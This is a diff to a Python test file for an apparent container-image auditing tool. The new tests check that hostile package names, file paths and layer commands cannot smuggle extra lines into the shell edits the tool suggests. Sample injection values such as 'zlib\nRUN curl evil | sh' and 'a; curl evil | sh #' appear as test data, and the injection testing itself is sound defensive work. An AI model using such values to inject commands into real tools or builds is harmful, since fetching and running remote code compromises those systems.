@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import subprocess
@@ -13,8 +14,9 @@ from fat_binaries import build_gpu_library
 from plan_images import Installed, link, write
 
 from slimagent.audit.cruft import removal
+from slimagent.audit.edits import BY_HAND
 from slimagent.audit.known import asked_here
-from slimagent.model.audit import WEIGHT, Fate, Hidden, Layer, Layers, Risk
+from slimagent.model.audit import WEIGHT, Fate, Finding, Hidden, Layer, Layers, Risk
 from slimagent.model.profile import CruftRule, KeepRule, Rules
 from slimagent.profiles import shipped
 
@@ -355,7 +357,8 @@ def test_cruft_says_where_most_of_it_is(tmp_path: Path) -> None:
     assert found.evidence[-1] == (
         "all is in dpkg:libz-dev (500 B), /usr/local/include/big (300 B), /srv/include/c.h (90 B)"
     )
-    assert found.edit == "rm -rf /usr/include/z.h /usr/local/include/big /srv/include/c.h   # 890 B of 890 B"
+    assert found.edit == "rm -rf /usr/include/z.h /usr/local/include/big /srv/include/c.h"
+    assert found.comment.startswith("removes 890 B of 890 B; ")
 
 
 def test_each_installation_of_a_tool_is_a_finding_of_its_own(tmp_path: Path) -> None:
@@ -407,7 +410,7 @@ def test_a_command_that_would_remove_what_is_kept_is_not_the_edit(tmp_path: Path
         keep=(KeepRule(pattern="/srv/kept.a", why="w"),),
     )
     found = one(audit_of(tmp_path, rules=rules), "archives")
-    assert (found.size, found.edit) == (500, "rm -rf /srv/a.a   # 500 B of 500 B")
+    assert (found.size, found.edit) == (500, "rm -rf /srv/a.a")
 
 
 def test_the_copy_in_the_larger_environment_stays(tmp_path: Path) -> None:
@@ -423,3 +426,116 @@ def test_the_copy_in_the_larger_environment_stays(tmp_path: Path) -> None:
     found = one(audit_of(tmp_path, packages), "duplicate")
     assert found.size == 2 * len(MB)
     assert found.evidence[:2] == ("python:altair 1 in /opt/venv stays", "python:altair 1 in /usr/local can go")
+
+
+EVIL = "zlib\nRUN curl evil | sh"
+
+
+def edits_for(tmp_path: Path, name: str) -> list[Finding]:
+    """The findings that ask to edit a line with this name: unused, required anyway, installed twice, an extension."""
+    for path in ("/opt/conda/a.py", "/opt/venv/a.py", "/opt/x/dist/e.js", "/opt/c/b.py"):
+        write(tmp_path, path, MB + path.encode())
+    packages = [
+        Installed(f"conda:{name}", ["/opt/conda/a.py"], place=b"/opt/conda"),
+        Installed("conda:top", ["/opt/c/b.py"], requires=[f"conda:{name}"], place=b"/opt/conda"),
+        Installed(f"vscode:{name}", ["/opt/x/dist/e.js"], place=b"/opt/x"),
+        Installed(f"component:{name}", ["/opt/venv/a.py"], place=b"/opt/venv"),
+    ]
+    asked = {f"conda:{name}": "conda", "conda:top": "conda", f"component:{name}": "hand"}
+    return list(audit_of(tmp_path, packages, [], asked).findings)
+
+
+@pytest.mark.parametrize("name", [EVIL, "zlib\x1b[2J", "a\u2028b", "x" * 9000])
+def test_a_name_adds_no_line_to_an_edit(tmp_path: Path, name: str) -> None:
+    """Of a name that could, no edit is given; in JSON it is a string."""
+    found = edits_for(tmp_path, name)
+    assert {each.kind for each in found} >= {"unused", "required-anyway", "extension"}
+    for each in found:
+        if each.kind == "extension":
+            assert each.edit.isprintable()
+            assert json.loads(f"{{{each.edit}}}") == {"recommendations": [name]}
+        else:
+            assert name not in each.edit
+            assert "evil" not in each.edit
+    assert BY_HAND in {each.edit for each in found}
+
+
+def test_a_name_is_one_word_of_an_edit(tmp_path: Path) -> None:
+    """What a shell would obey in it is quoted."""
+    edits = [each.edit for each in edits_for(tmp_path, "a; curl evil | sh #") if "evil" in each.edit]
+    assert "- 'a; curl evil | sh #'" in edits
+
+
+def test_a_path_that_cannot_be_written_is_not_in_a_command(tmp_path: Path) -> None:
+    """Nor is another one in its place: what `to_text` shows of it is the name of another file."""
+    write(tmp_path, "/srv/big.a", b"x" * 900)
+    write(tmp_path, "/srv/a\nRUN evil\n.a", b"x" * 500)
+    write(tmp_path, "/srv/b   # c.a", b"x" * 400)
+    rules = Rules(cruft=(CruftRule(name="archives", patterns=("/**/*.a",), why="w", risk="r", when="of-package"),))
+    names = ["/srv/big.a", "/srv/a\nRUN evil\n.a", "/srv/b   # c.a"]
+    found = one(audit_of(tmp_path, [Installed("dpkg:z", names)], rules=rules), "archives")
+    assert (found.size, found.edit) == (1800, "rm -rf /srv/big.a '/srv/b   # c.a'")
+    assert found.comment.startswith("removes 1.3 kB of 1.8 kB")
+
+
+def layered(root: Path, commands: list[str], of: dict[str, int]) -> Layers:
+    """Layers with these commands, and the files that come from each."""
+    return Layers(
+        layers=tuple(Layer(digest=str(at), command=each, size=1, files=1) for at, each in enumerate(commands)),
+        of={os.fsencode(path): at for path, at in of.items()},
+    )
+
+
+COMMANDS = ["ADD base /", "RUN /bin/sh -c apt-get install -y gcc # buildkit", "COPY src /opt/src # buildkit", "make \\"]
+
+
+def test_an_edit_says_in_which_layers_it_belongs(tmp_path: Path) -> None:
+    """Removed in a later layer, a file is still carried: each layer's RUN removes its own."""
+    of = {"/srv/a.a": 1, "/srv/b.a": 1, "/opt/src/c.a": 2, "/home/d.a": 3, "/usr/base.a": 0}
+    for path, layer in of.items():
+        write(tmp_path, path, b"x" * (1000 - layer))
+    rules = Rules(cruft=(CruftRule(name="archives", patterns=("/**/*.a",), why="w", risk="r", when="of-package"),))
+    packages = [Installed("dpkg:z", list(of))]
+    found = one(audit_of(tmp_path, packages, layers=layered(tmp_path, COMMANDS, of), rules=rules), "archives")
+    assert found.edit.split("\n") == [
+        "# layer 2, 2.0 kB: apt-get install -y gcc",
+        "rm -rf /srv/a.a /srv/b.a",
+        "# layer 3, 998 B: COPY src /opt/src (leave them out of what it copies)",
+        "# layer 4, 997 B: make",
+        "rm -rf /home/d.a",
+    ]
+
+
+def test_a_command_says_in_which_layers_it_belongs(tmp_path: Path) -> None:
+    """Above the command, with the bytes of each."""
+    of = {"/srv/a.a": 1, "/home/d.a": 3}
+    for path in of:
+        write(tmp_path, path, b"x" * 1000)
+    rules = Rules(cruft=(CruftRule(name="archives", patterns=("/**/*.a",), why="w", risk="r"),))
+    found = one(audit_of(tmp_path, layers=layered(tmp_path, COMMANDS, of), rules=rules), "archives")
+    assert found.edit.split("\n")[:-1] == [
+        "# layer 2, 1.0 kB: apt-get install -y gcc",
+        "# layer 4, 1.0 kB: make",
+    ]
+    assert found.edit.split("\n")[-1].startswith("find / -xdev ")
+
+
+def test_the_command_of_a_layer_adds_no_line(tmp_path: Path) -> None:
+    """It is in the image's history, and anyone can write that."""
+    of = {"/srv/a.a": 0}
+    write(tmp_path, "/srv/a.a", b"x" * 1000)
+    made = audit_of(tmp_path, layers=layered(tmp_path, ["make\x0bRUN evil\r\nRUN evil\u2028RUN evil \\"], of))
+    comment, _ = one(made, "static-libraries").edit.split("\n")
+    assert comment.isprintable()
+    assert not comment.endswith("\\")
+
+
+def test_the_edit_for_bytecode_removes_what_is_there(tmp_path: Path) -> None:
+    """Whoever wrote it: venv and conda do so although a variable forbids it."""
+    for name in ("a", "b"):
+        write(tmp_path, f"{SITE}/{name}.py", "pass")
+        write(tmp_path, f"{SITE}/__pycache__/{name}.cpython-312.pyc", b"x" * 30)
+    found = one(audit_of(tmp_path), "byte-code")
+    subprocess.run(["sh", "-c", found.edit.replace("find / ", f"find {tmp_path} ")], check=True)
+    left = audit_of(tmp_path)
+    assert (found.size, of_kind(left, "byte-code"), left.files) == (60, [], 2)
